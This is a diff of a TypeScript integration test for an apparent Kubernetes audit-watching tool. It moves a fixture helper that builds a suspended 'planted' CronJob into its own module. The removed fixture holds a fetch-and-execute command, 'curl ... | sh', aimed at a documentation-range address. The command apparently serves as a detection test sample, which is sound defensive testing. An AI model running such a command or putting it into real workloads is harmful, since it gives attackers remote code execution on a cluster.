@@ -8,7 +8,6 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { setTimeout as sleep } from 'node:timers/promises';
-import type { JsonObject } from '../../src/model/json.ts';
 import { stringAt } from '../../src/model/json.ts';
 import { sqliteReader } from '../../src/stores/sqlite/sqlite-store.ts';
 import { newFolder } from '../cli/run-watchbill.ts';
@@ -16,6 +15,7 @@ import type { Watching } from '../cli/watch.ts';
 import { freePort, startWatch } from '../cli/watch.ts';
 import type { ControlPlane } from './control-plane.ts';
 import { findControlPlane, startControlPlane, until } from './control-plane.ts';
+import { planted } from './planted.ts';
 import { request } from './request.ts';
 
 const policy = `
@@ -27,33 +27,6 @@ rules:
 - {level: RequestResponse, verbs: [create, update, patch, delete], resources: [{group: batch}, {group: apps}, {group: "", resources: [pods]}]}
 - {level: Metadata}
 `;
-
-/** Suspended, and on an address of documentation: nothing runs, nothing is reached. */
-const planted = (name: string): JsonObject => ({
-  apiVersion: 'batch/v1',
-  kind: 'CronJob',
-  metadata: { name, namespace: 'default' },
-  spec: {
-    schedule: '*/5 * * * *',
-    suspend: true,
-    jobTemplate: {
-      spec: {
-        template: {
-          spec: {
-            restartPolicy: 'Never',
-            containers: [
-              {
-                name: 'main',
-                image: 'registry.example/tool:1',
-                command: ['sh', '-c', 'curl -s http://198.51.100.7/x | sh'],
-              },
-            ],
-          },
-        },
-      },
-    },
-  },
-});
 
 const found = findControlPlane();
 const skip = 'missing' in found && process.env['CI'] !== 'true' ? found.missing : false;
